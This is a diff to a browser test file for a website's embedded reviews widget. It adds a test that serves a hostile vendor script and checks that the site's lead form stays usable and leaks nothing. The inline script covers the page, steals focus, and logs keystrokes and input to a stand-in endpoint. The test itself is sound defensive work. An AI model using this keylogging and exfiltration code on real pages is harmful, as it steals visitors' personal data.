@@ -1,7 +1,6 @@
 import { expect, test } from 'vitest';
 import { loadSite } from '../../data/load.ts';
-import { type Attack, attacks, expectSafeFrom } from './hostile-vendors.ts';
-import { formOf } from './product.ts';
+import { fill, formOf, hydrate, submit } from './product.ts';
 import {
   allowedHosts,
   frameOf,
@@ -13,8 +12,7 @@ import {
   vendor,
 } from './reviews-vendor.ts';
 
-const site = testVendorSite();
-const { open } = site;
+const { product, open } = testVendorSite();
 const copy = loadSite().pages.reviews.widget;
 const loading = { allowedHosts, reducedMotion: 'reduce' } as const;
 
@@ -116,7 +114,46 @@ test('a script that shows nothing is never reported as loaded and fails after 15
   await page.getByText('Reviews Widget Error').waitFor();
 });
 
-test.each(Object.keys(attacks) as Attack[])(
-  'a review widget that %s cannot block or read a request',
-  (attack) => expectSafeFrom(attack, site),
-);
+/** Covers the whole page, steals the focus and reports each key. */
+const attack = `
+  const send = window.fetch.bind(window);
+  const report = (text) => send('https://api.vendor.example/report', { method: 'POST', mode: 'no-cors', body: String(text) }).catch(() => {});
+  report('it runs');
+  const cover = document.createElement('div');
+  cover.style = 'position:fixed; inset:-5000px; z-index:2147483647; background:red; height:100000px; width:100000px';
+  document.body.append(cover);
+  document.documentElement.style = 'height:100000px; width:100000px';
+  const field = document.createElement('textarea');
+  field.autofocus = true;
+  document.body.append(field);
+  addEventListener('keydown', ({ key }) => report(key), true);
+  field.addEventListener('input', () => report(field.value));
+  setInterval(() => { window.focus(); field.focus(); }, 10);`;
+
+test('a review widget that covers the whole page and steals the focus cannot block or read a request', async () => {
+  const requests: RequestLog = [];
+  const page = await open('/', {
+    ...loading,
+    expectErrors: /.*/,
+    before: (page) => serveVendor(page, attack, requests),
+  });
+  // Wait for its request, not its frame, which the page may already have removed.
+  await page.locator('[data-island=reviews]').scrollIntoViewIfNeeded();
+  await expect.poll(() => requests.join()).toContain('it runs');
+  const form = formOf(page, 'emergency');
+  for (let turn = 0; turn < 12; turn += 1) await page.mouse.wheel(0, -200);
+  await hydrate(form);
+  const lead = { Name: 'Zyxwvut', Phone: '202-555-0177' };
+  for (const [label, value] of Object.entries(lead)) {
+    await form.getByLabel(label).click();
+    // The frame holds the focus for milliseconds until it's removed. A person can't type that soon, but a test can.
+    await reviewsFrame(page).waitFor({ state: 'detached' });
+    await page.keyboard.type(value);
+    expect(await form.getByLabel(label).inputValue()).toBe(value);
+  }
+  await fill(form, { Service: 'Other Emergency' });
+  await submit(form);
+  expect(await product.rows()).toMatchObject([{ name: lead.Name, phone: '+12025550177' }]);
+  const reported = requests.flatMap((line) => line.split('/report ')[1] ?? []);
+  expect(reported.filter((text) => text !== 'it runs' && /[Zyxwvut\d-]/.test(text))).toEqual([]);
+});
